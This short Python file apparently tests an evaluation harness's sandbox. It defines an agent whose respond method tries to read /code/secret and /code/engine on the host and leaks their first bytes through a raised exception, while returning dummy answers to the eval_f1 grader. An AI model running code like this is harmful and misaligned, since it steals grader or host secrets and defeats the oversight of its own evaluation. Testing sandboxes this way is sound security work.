"""Brings a link to a file of the host; it leads to the same place inside."""

import contextlib

from harness import eval_f1


class Agent:
    def respond(self, contexts):
        for link in ("secret", "engine"):
            with contextlib.suppress(OSError), open(f"/code/{link}", "rb") as file:
                raise RuntimeError(f"{link}: {file.read(80)!r}")
        return ["i like turtles" for _ in contexts]


if __name__ == "__main__":
    eval_f1(Agent)
